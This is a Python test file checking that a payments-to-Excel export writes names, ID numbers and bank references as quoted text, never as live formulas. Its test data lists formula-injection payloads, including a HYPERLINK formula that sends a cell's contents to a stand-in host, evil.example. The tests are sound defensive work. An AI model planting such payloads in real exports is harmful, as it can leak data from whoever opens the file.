"""A name or bank reference beginning with = + - @ tab or CR is written to Excel as text, never as a
live formula (CSV/formula injection)."""

from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO

import pytest
from openpyxl import load_workbook

from jiuye.applications.models import Payment
from jiuye.payments import export

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A3)",
             "\t=1+2", "\r=1+2"]


def _payment(i: int, bank_reference: str) -> Payment:
    return Payment(id=i, entitlement_id=1, application_id=i, county_code="330102", city_code="330100",
                   provision_id="zj_2022_46.art21", seq=1, period_start=date(2025, 6, 1), months=1,
                   due_date=date(2025, 6, 1), amount_fen=80_000, payee="applicant", status="paid",
                   bank_reference=bank_reference)


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_cells_are_text(value):
    data = export.workbook([_payment(7, value)], {7: {"name": value, "id_number": value}})
    with zipfile.ZipFile(BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    ws = load_workbook(BytesIO(data)).active
    row = [c for c in ws[3]]
    for col in (5, 6, 13):  # payee name, ID, bank reference
        cell = row[col - 1]
        assert cell.data_type == "s", (col, cell.value)
        assert cell.value == value.replace("\r", "\n")  # (XML reads a bare CR as a line feed)
        assert cell.quotePrefix  # Excel shows it as typed text, even after editing the cell


def test_ordinary_values_are_unchanged():
    data = export.workbook([_payment(8, "BANK-20250601-01")], {8: {"name": "张*", "id_number": "330102********0011"}})
    ws = load_workbook(BytesIO(data)).active
    assert [ws.cell(3, c).value for c in (5, 6, 13)] == ["张*", "330102********0011", "BANK-20250601-01"]
    assert ws.cell(3, 10).value == 800 and ws.cell(3, 10).data_type == "n"
